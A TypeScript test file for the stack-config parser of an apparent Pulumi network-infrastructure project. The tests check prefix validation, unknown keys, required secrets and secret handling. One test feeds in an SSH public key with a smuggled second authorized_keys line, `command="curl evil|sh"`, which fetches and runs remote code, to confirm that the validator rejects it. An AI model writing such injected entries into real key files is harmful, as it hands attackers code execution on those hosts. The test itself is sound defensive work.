import * as pulumi from "@pulumi/pulumi";
import { expect } from "chai";
import { ConfigError, parseStackConfig, type RawConfig } from "../../config/load";

const minimal = {
  environment: "lab",
  domain: "lab.example",
  management: { cidr: "127.0.0.0/8", operators: ["127.0.0.0/8"] },
};

function raw(values: Record<string, unknown>, secret: string[] = []): RawConfig {
  const text = Object.fromEntries(
    Object.entries(values).map(([k, v]) => [k, typeof v === "string" ? v : JSON.stringify(v)]),
  );
  return { values: text, secret: new Set(secret) };
}

function problemsOf(values: Record<string, unknown>, secret: string[] = []): string[] {
  try {
    parseStackConfig(raw(values, secret));
  } catch (err) {
    expect(err).to.be.instanceOf(ConfigError);
    return (err as ConfigError).problems;
  }
  throw new Error("expected the config to be refused");
}

const router = {
  name: "MTK-3",
  host: "192.168.255.3",
  interfaces: [
    { name: "ether1", address: "192.168.255.3/24" },
    { name: "lo", address: "192.168.254.3/32", loopback: true },
    { name: "qsfp28-1-1", address: "192.168.141.2/30", mtu: 9050, l2mtu: 9134 },
  ],
  ospf: { routerId: "192.168.254.3", interfaces: [{ interface: "qsfp28-1-1", type: "ptp", auth: "md5" }] },
};

const tenant = {
  name: "sql",
  vni: 111,
  cidr: "192.168.111.0/24",
  gateway: "192.168.111.1",
  vrid: 111,
  bridge: "vbr111",
  routers: [
    { router: "MTK-3", priority: 200 },
    { router: "MTK-4", priority: 100 },
  ],
};

describe("stack config", () => {
  it("accepts a minimal config and fills in the defaults", () => {
    const { config } = parseStackConfig(raw(minimal));
    expect(config.routers).to.deep.equal([]);
    expect(config.routerApi).to.deep.equal({
      username: "budgetcloud",
      plaintext: false,
      tls: { insecure: false },
      timeoutSeconds: 10,
    });
  });

  it("names the key and the reason of a bad prefix", () => {
    const tenants = [tenant, { ...tenant, name: "b" }, { ...tenant, name: "c", cidr: "10.0.0.0/33" }];
    expect(problemsOf({ ...minimal, tenants })).to.deep.equal([
      "budgetcloud:tenants[2].cidr: 10.0.0.0/33 is not an IPv4 prefix",
    ]);
  });

  it("takes an SSH public key on one line only: a newline would start another authorized_keys entry", () => {
    const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGr9 varun@thinkpad";
    const vmUsers = [
      { name: "varun", sshAuthorizedKeys: [key, `${key}\ncommand="curl evil|sh" ssh-ed25519 AAAAC3Nza x`] },
    ];
    expect(problemsOf({ ...minimal, vmUsers })).to.deep.equal([
      "budgetcloud:vmUsers[0].sshAuthorizedKeys[1]: must be one OpenSSH public key on one line",
    ]);
    expect(
      parseStackConfig(raw({ ...minimal, vmUsers: [{ name: "varun", sshAuthorizedKeys: [key] }] })).config.vmUsers,
    ).to.have.length(1);
  });

  it("refuses a prefix with host bits set", () => {
    expect(problemsOf({ ...minimal, tenants: [{ ...tenant, cidr: "192.168.111.5/24" }] })).to.deep.equal([
      "budgetcloud:tenants[0].cidr: 192.168.111.5/24 is not an IPv4 prefix",
    ]);
  });

  it("reports unknown keys, at the top and deep inside", () => {
    expect(problemsOf({ ...minimal, tenant: [], routers: [{ ...router, loopbak: "x" }] }, [])).to.deep.equal([
      "budgetcloud:routers[0].loopbak: unknown key",
      "budgetcloud:tenant: unknown key",
    ]);
  });

  it("reports missing keys and every problem at once", () => {
    expect(problemsOf({ environment: "staging", domain: "x" })).to.deep.equal([
      'budgetcloud:environment: Invalid option: expected one of "prod"|"qa"|"lab"',
      "budgetcloud:management: required",
    ]);
  });

  it("needs a gateway on two or more routers", () => {
    const lonely = { ...tenant, routers: [{ router: "MTK-3", priority: 200 }] };
    expect(problemsOf({ ...minimal, tenants: [lonely] })).to.deep.equal([
      "budgetcloud:tenants[0].routers: a tenant gateway needs two or more routers",
    ]);
  });

  it("asks for the secrets the config needs, naming the command that sets them", () => {
    expect(problemsOf({ ...minimal, routers: [router] })).to.deep.equal([
      "budgetcloud:routerPassword: missing secret (password of the RouterOS API user on every router); set it with pulumi config set --secret budgetcloud:routerPassword",
      "budgetcloud:ospfAuthKey: missing secret (OSPF MD5 authentication key of the fabric's point-to-point links); set it with pulumi config set --secret budgetcloud:ospfAuthKey",
    ]);
  });

  it("refuses a credential stored in plain text, without echoing it", () => {
    const problems = problemsOf(
      { ...minimal, routers: [router], routerPassword: "hunter2", ospfAuthKey: "transnomis" },
      ["routerPassword"],
    );
    expect(problems).to.deep.equal([
      "budgetcloud:ospfAuthKey: must be a secret; set it with pulumi config set --secret budgetcloud:ospfAuthKey",
    ]);
    expect(problems.join("\n")).not.to.include("transnomis");
  });

  it("hands secrets over as Pulumi secrets", async () => {
    const { secrets } = parseStackConfig(
      raw({ ...minimal, routers: [router], routerPassword: "hunter2", ospfAuthKey: "k" }, [
        "routerPassword",
        "ospfAuthKey",
      ]),
    );
    expect(secrets.routerPassword).not.to.equal(undefined);
    expect(await pulumi.isSecret(secrets.routerPassword as pulumi.Output<string>)).to.equal(true);
  });
});
